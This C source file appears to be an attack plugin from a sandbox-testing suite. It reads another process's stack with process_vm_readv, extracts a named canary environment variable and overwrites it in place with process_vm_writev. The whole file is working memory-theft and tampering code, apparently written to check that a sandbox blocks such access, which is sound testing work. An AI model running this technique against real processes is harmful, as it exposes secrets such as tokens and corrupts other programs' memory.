/*
 * proc_vm_writev_host — reads the host's stack with process_vm_readv, finds the
 * canary environment variable among the strings at its top and returns it, then
 * overwrites the value in the host's memory with process_vm_writev. Cross-process
 * memory access needs no ptrace attach and no file: one system call each way.
 */
#include "attack.h"

#include <sys/uio.h>

static int find_stack(long host, unsigned long *start, unsigned long *end)
{
    char path[64];
    char line[512];
    snprintf(path, sizeof path, "/proc/%ld/maps", host);
    FILE *maps = fopen(path, "re");
    int found = 0;
    if (maps == NULL) {
        return 0;
    }
    while (!found && fgets(line, sizeof line, maps) != NULL) {
        if (strstr(line, "[stack]") != NULL && sscanf(line, "%lx-%lx", start, end) == 2) {
            found = 1;
        }
    }
    fclose(maps);
    return found;
}

static sbx_status attack(const atk_input *in, atk_out *out)
{
    static char stack[1 << 20];
    char name[256];
    char needle[260];
    long host = atk_param_long(in, "host_pid", -1);
    unsigned long start = 0, end = 0;
    if (host <= 0 || !atk_param(in, "token_env", name, sizeof name)) {
        return SBX_ERR_INVALID_ARGUMENT;
    }
    /* First a blind read at an address of our own stack: the system call is made
     * whatever /proc shows. */
    struct iovec local = {stack, 64};
    struct iovec remote = {(void *)&local, 64};
    if (process_vm_readv((pid_t)host, &local, 1, &remote, 1, 0) < 0 && errno != EFAULT) {
        atk_failed(out, "process_vm_readv", errno);
    }
    if (!find_stack(host, &start, &end)) {
        atk_failed(out, "finding the host stack", errno);
        return SBX_ERR_INTERNAL;
    }
    size_t len = end - start < sizeof stack ? end - start : sizeof stack;
    local.iov_base = stack;
    local.iov_len = len;
    remote.iov_base = (void *)(end - len);
    remote.iov_len = len;
    ssize_t got = process_vm_readv((pid_t)host, &local, 1, &remote, 1, 0);
    if (got <= 0) {
        atk_failed(out, "process_vm_readv stack", errno);
        return SBX_ERR_INTERNAL;
    }
    atk_gained(out, "read %zd bytes of the host's stack", got);
    snprintf(needle, sizeof needle, "%s=", name);
    char *hit = memmem(stack, (size_t)got, needle, strlen(needle));
    if (hit == NULL) {
        atk_printf(out, "%s not found on the host stack\n", needle);
        return SBX_OK;
    }
    char *value = hit + strlen(needle);
    atk_printf(out, "host env %s%.*s\n", needle, (int)strnlen(value, 256), value);
    /* Overwrite the value in place, within its length. */
    static const char mark[] = "sbx-atk";
    size_t n = strnlen(value, 256) < sizeof mark - 1 ? strnlen(value, 256) : sizeof mark - 1;
    local.iov_base = (void *)mark;
    local.iov_len = n;
    remote.iov_base = (void *)(end - len + (size_t)(value - stack));
    remote.iov_len = n;
    if (process_vm_writev((pid_t)host, &local, 1, &remote, 1, 0) == (ssize_t)n) {
        atk_gained(out, "overwrote %zu bytes of the host's memory", n);
    } else {
        atk_failed(out, "process_vm_writev", errno);
    }
    return SBX_OK;
}

ATK_INVOKE_PLUGIN(attack)
